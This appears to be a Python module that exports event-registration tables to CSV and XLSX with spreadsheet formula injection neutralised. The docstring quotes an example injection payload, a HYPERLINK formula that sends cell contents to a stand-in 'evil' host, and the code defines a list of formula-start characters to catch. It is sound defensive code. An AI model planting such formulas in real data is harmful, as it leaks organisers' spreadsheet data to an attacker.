"""Tables written as CSV or XLSX for the organisers' spreadsheets, with formula injection neutralised.

Names, organisations and staff names are typed by registrants and desks: a guest who registers as
`=HYPERLINK("http://evil/?"&A1,"Kliknij")` must not become a live formula in the organiser's Excel. Following
OWASP's CSV injection guidance, every text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return gets a leading apostrophe (so do the full-width `＝＋－＠`: harmless to mark, and a program that folds
them to their ASCII forms would otherwise run them). The apostrophe, rather than only storing the cell as
text, because it survives any conversion: an XLSX re-saved as CSV, or a CSV pasted into Google Sheets, stays
inert. The cost is a visible apostrophe before such values ("'+48 600 100 200"), which a reader understands;
nothing else is changed.

CSV is UTF-8 with a BOM and `;` between cells, CRLF line ends: what Excel in a Polish locale opens with the
Polish letters and the columns right (the same as `checkin.demo`'s export). Rows are streamed, so the log of
a 100,000-guest event is never held as one list.
"""

from __future__ import annotations

import csv
import unicodedata
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

Cell = str | int
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
TABLE_FORMATS = ("xlsx", "csv")
MAX_SHEET_TITLE = 31
"""Excel refuses longer sheet names."""
COLUMN_WIDTH_RANGE = (6, 60)


@dataclass(frozen=True)
class Column:
    """A column's header and its width in an XLSX sheet (in characters)."""

    header: str
    width: int = 14


@dataclass(frozen=True)
class Table:
    """What a spreadsheet export holds: a sheet name, the columns and the rows (streamed once)."""

    title: str
    columns: Sequence[Column]
    rows: Iterable[Sequence[Cell]]


def neutralised(value: Cell) -> Cell:
    """The cell as a spreadsheet may show it without running it (see the module's docstring).

    Control characters other than tab, line feed and carriage return are dropped first: they are never part
    of a name (a scanner's stray byte), openpyxl refuses a workbook holding them, and dropping them after
    the check could uncover a formula start.
    """
    if not isinstance(value, str):
        return value
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    starts_formula = text.startswith(FORMULA_STARTS) or unicodedata.normalize("NFKC", text[:1]).startswith(
        FORMULA_STARTS
    )  # NFKC: the small and full-width forms (﹦, ＝, ﹫...) are read as = and @ by some spreadsheets
    return f"'{text}" if starts_formula else text


def write_table(table: Table, fmt: str, out: Path) -> int:
    """Write `table` to `out` as `fmt` ("xlsx" or "csv"); returns the number of rows below the header."""
    if fmt == "csv":
        return _write_csv(table, out)
    if fmt == "xlsx":
        return _write_xlsx(table, out)
    raise ValueError(f"not a table format: {fmt}")


def _safe_rows(table: Table) -> Iterator[list[Cell]]:
    for row in table.rows:
        yield [neutralised(value) for value in row]


def _write_csv(table: Table, out: Path) -> int:
    count = 0
    with out.open("w", encoding="utf-8-sig", newline="") as file:
        writer = csv.writer(file, delimiter=";", lineterminator="\r\n")
        writer.writerow([neutralised(column.header) for column in table.columns])
        for row in _safe_rows(table):
            writer.writerow(row)
            count += 1
    return count


def _write_xlsx(table: Table, out: Path) -> int:
    """A streamed (write-only) workbook: a bold header row, frozen, with a filter, and set column widths."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(_sheet_title(table.title))
    sheet.freeze_panes = "A2"
    low, high = COLUMN_WIDTH_RANGE
    for number, column in enumerate(table.columns, start=1):
        sheet.column_dimensions[get_column_letter(number)].width = min(max(column.width, low), high)
    bold = Font(bold=True)
    header = [WriteOnlyCell(sheet, neutralised(column.header)) for column in table.columns]
    for cell in header:
        cell.font = bold
    sheet.append(header)
    count = 0
    for row in _safe_rows(table):
        sheet.append(row)
        count += 1
    sheet.auto_filter.ref = f"A1:{get_column_letter(max(1, len(table.columns)))}{count + 1}"
    book.save(out)
    return count


def _sheet_title(title: str) -> str:
    """Excel forbids : \\ / ? * [ ] in sheet names and longer than 31 characters."""
    cleaned = "".join("-" if character in ":\\/?*[]" else character for character in title).strip("'")
    return cleaned[:MAX_SHEET_TITLE] or "Arkusz"
